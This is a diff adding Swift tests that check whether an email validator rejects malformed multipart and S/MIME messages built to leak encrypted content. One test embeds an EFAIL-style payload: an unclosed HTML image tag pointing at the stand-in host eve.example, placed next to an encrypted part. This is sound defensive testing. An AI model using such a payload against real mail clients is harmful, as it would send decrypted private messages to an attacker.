@@ -137,6 +137,47 @@ struct MessageExposureTests {
         #expect(report.checks.first?.explanation.contains("part 2 (multipart/") == true)
     }
 
+    @Test(
+        "Lines that only some programs read as delimiters make the structure invalid",
+        arguments: ["--outerx", "--outer\u{B}", "--outer--x", "--outer-"])
+    func longDelimiters(line: String) async throws {
+        let hidden = Array(
+            "\(line)\r\nContent-Type: text/html\r\n\r\n<img src=\"https://eve.example/\r\n".utf8)
+        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
+        let report = try await judge(multipart([text + hidden, stolen, try signedByEve(text)]))
+        #expect(report.checks.first?.outcome == .failed)
+        #expect(report.checks.first?.explanation.contains("because it begins like one") == true)
+        // The delimiter of a signed message, too.
+        let inside = Array("Content-Type: text/plain\r\n\r\na\r\n\(line)\r\n".utf8)
+        let signed = String(decoding: try signedByEve(inside), as: UTF8.self)
+        let boundary = try #require(signed.firstMatch(of: /boundary="([^"]+)"/)?.1)
+        #expect(try await judge(Array(signed.utf8)).isValid)
+        #expect(!(try await judge(Array(signed.replacing(boundary, with: "outer").utf8)).isValid))
+    }
+
+    @Test("A part after the end of a multipart message makes the structure invalid")
+    func afterEnd() async throws {
+        let stolen = try dana.encrypted(MessageSender.body, .aes256CBC)
+        let mail = multipart([text, stolen, try signedByEve(text)])
+        let more = Array("--outer\r\n".utf8) + html + Array("--outer--\r\n".utf8)
+        #expect(try await judge(mail).checks.first?.outcome == .passed)
+        let report = try await judge(mail + more)
+        #expect(report.checks.first?.outcome == .failed)
+        #expect(report.checks.first?.explanation.contains("a part after its end") == true)
+    }
+
+    @Test("A list of certificates next to other parts cannot contain an encrypted one")
+    func certificateList() async throws {
+        _ = try scratch.write(Array(authority.issuer.certificate.pem.utf8), as: "certificates.pem")
+        try scratch.shell("openssl crl2pkcs7 -nocrl -certfile certificates.pem -outform DER -out list.p7c")
+        let field = "Content-Type: application/pkcs7-mime; smime-type=certs-only; name=list.p7c"
+        let list =
+            Array("\(field)\r\nContent-Transfer-Encoding: base64\r\n\r\n".utf8)
+            + MailText.base64(try scratch.read("list.p7c"))
+        let report = try await judge(try signedByEve(multipart([text, list])))
+        #expect(report.checks.first?.outcome == .passed, "\(report.checks)")
+    }
+
     /// The encodings of an encrypted message that mail programs decode.
     private func bodies() throws -> [[UInt8]] {
         let der = try der(of: try dana.encrypted(MessageSender.body, .aes256CBC))
